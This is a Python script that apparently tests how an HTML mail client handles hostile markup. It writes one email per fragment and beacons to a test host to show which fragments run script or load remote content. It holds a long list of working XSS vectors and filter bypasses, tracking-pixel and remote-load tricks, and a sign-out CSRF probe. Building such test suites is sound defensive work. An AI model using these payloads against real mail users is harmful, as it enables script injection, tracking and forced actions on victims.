#!/usr/bin/env python3
"""What HTML mail tries, one fragment a line: to run a script, to load something from elsewhere, to leave its frame.

    attacks.py HOST:PORT FOLDER     writes a mail of each; it would ask that server for /NUMBER
"""
import os
import re
import sys

SCRIPTS = """
<script>R('N')</script>
<script src="//H/N"></script>
<script type=module>import('//H/N')</script>
<script type="text/javascript" defer>R('N')</script>
<scr<script>ipt>R('N')</scr</script>ipt>
<img src=x onerror="R('N')">
<img src=1 href=1 onload="R('N')" onerror=R('N')>
<body onload="R('N')">
<svg onload="R('N')"></svg>
<svg><script>R('N')</script></svg>
<svg><animate onbegin="R('N')" attributeName=x dur=1s></svg>
<svg><foreignObject><iframe onload="R('N')"></iframe></foreignObject></svg>
<svg><a xlink:href="javascript:R('N')"><text x=20 y=20>N</text></a></svg>
<svg><set onbegin="R('N')" attributeName=x to=1></svg>
<math><mtext></mtext><mglyph><style><!--</style><img title="--><img src=x onerror=R('N')>"></math>
<details open ontoggle="R('N')">N</details>
<video src=x onerror="R('N')"></video>
<audio src=x onerror="R('N')"></audio>
<video><source onerror="R('N')"></video>
<input autofocus onfocus="R('N')">
<select autofocus onfocus="R('N')"></select>
<textarea autofocus onfocus="R('N')"></textarea>
<marquee onstart="R('N')">N</marquee>
<object data="javascript:R('N')"></object>
<embed src="javascript:R('N')">
<iframe src="javascript:parent.R('N')"></iframe>
<iframe srcdoc="<script>parent.R('N')</script>"></iframe>
<form><button formaction="javascript:R('N')" autofocus onfocus="R('N')">N</button></form>
<a href="javascript:R('N')" id=a>N</a>
<meta http-equiv=refresh content="0;url=javascript:R('N')">
<style>@keyframes k{from{left:0}}</style><p style="animation:k 1s" onanimationstart="R('N')">N</p>
<div style="width:expression(R('N'))">N</div>
<noscript><p title="</noscript><img src=x onerror=R('N')>"></noscript>
<template><script>R('N')</script></template>
"""

REQUESTS = """
<img src="http://H/N">
<img srcset="//H/N 1x, //H/N 2x">
<picture><source srcset="//H/N"><img src="data:,"></picture>
<input type=image src="//H/N">
<link rel=stylesheet href="//H/N">
<link rel=preconnect href="//H/N">
<link rel=dns-prefetch href="//H/N">
<link rel=preload as=image href="//H/N">
<link rel=prefetch href="//H/N">
<link rel=prerender href="//H/N">
<link rel=modulepreload href="//H/N">
<link rel="shortcut icon" href="//H/N">
<link rel=manifest href="//H/N">
<LINK/REL=preconnect/HREF="//H/N">
<base href="http://H/"><img src="N">
<meta http-equiv=refresh content="0;url=http://H/N">
<meta http-equiv="Link" content="<http://H/N>; rel=preload">
<meta http-equiv="Content-Security-Policy" content="report-uri http://H/N; img-src 'none'">
<iframe src="http://H/N"></iframe>
<frameset><frame src="http://H/N"></frameset>
<object data="http://H/N"></object>
<object type="image/svg+xml" data="http://H/N"></object>
<embed src="http://H/N">
<applet code="http://H/N"></applet>
<video src="http://H/N" autoplay></video>
<video poster="http://H/N"></video>
<audio src="http://H/N" autoplay></audio>
<video><source src="http://H/N"><track src="http://H/N" default></video>
<style>@import "http://H/N";</style>
<style>@import url(//H/N);</style>
<style>body{background:url(http://H/N)}</style>
<style>@font-face{font-family:x;src:url(http://H/N)}p{font-family:x}</style>
<style>p::before{content:url(http://H/N)}</style>
<style>ul{list-style:url(http://H/N)}</style><ul><li>N</ul>
<style>p{cursor:url(http://H/N),auto}</style>
<style>:root{--u:url(http://H/N)}div{border-image:var(--u) 1}</style>
<style>p{mask:url(http://H/N#m);filter:url(http://H/N#f)}</style>
<p style="background-image:url('http://H/N')">N</p>
<p style="background-image:image-set(url(http://H/N) 1x)">N</p>
<table background="http://H/N"><tr><td background="http://H/N">N</table>
<body background="http://H/N">
<svg><image href="http://H/N" width=9 height=9></image></svg>
<svg><image xlink:href="http://H/N" width=9 height=9></image></svg>
<svg><use href="http://H/N#x"></use></svg>
<svg><feImage href="http://H/N"></feImage></svg>
<svg><style>@import 'http://H/N'</style></svg>
<form action="http://H/N" id=f><input name=x autofocus></form><button form=f>N</button>
<a href="http://H/N" ping="http://H/N" target=_top>N</a>
<a href="http://H/N" target=_blank>N</a>
<portal src="http://H/N"></portal>
<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='http://H/N'/%3E%3C/svg%3E">
<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='fetch(%22http://H/N%22)'/%3E">
<img src="/kartoteka.cgi/sign-out"><form method=post action="/kartoteka.cgi/sign-out"><input autofocus></form>
<li<link rel=preconnect href="//H/N">nk rel=preconnect href="//H/N">
"""


def fragments(host):
    """(number, HTML) of each; what it would ask for is http://HOST/NUMBER or http://HOST/script-NUMBER."""
    lines = [line for line in (SCRIPTS + REQUESTS).split("\n") if line]
    for number, line in enumerate(lines, 1):
        run = "new Image().src='http://%s/script-%d'" % (host, number)
        # R('N'): whatever a script could do, it would ask for a picture
        line = re.sub(r"(parent\.)?R\('N'\)", lambda _: run, line)
        yield number, re.sub(r"\bN\b", str(number), re.sub(r"\bH\b", host, line))


def mail(host, number, html):
    return ("From: Mallory <mallory@attacks.example>\r\nTo: jana.novakova@lodenice.example\r\n"
            "Subject: Attack %d.\r\nDate: Mon, 23 Nov 2026 10:%02d:%02d +0000\r\n"
            "Message-ID: <attack-%d@attacks.example>\r\nMIME-Version: 1.0\r\n"
            "Content-Type: text/html; charset=utf-8\r\n\r\n"
            "<html><body><p>The first words.</p>\r\n%s\r\n<p>The last words.</p></body></html>\r\n"
            % (number, number // 60, number % 60, number, html))


if __name__ == "__main__":
    for n, fragment in fragments(sys.argv[1]):
        with open(os.path.join(sys.argv[2], "attack-%d.eml" % n), "w", newline="") as file:
            file.write(mail(sys.argv[1], n, fragment))
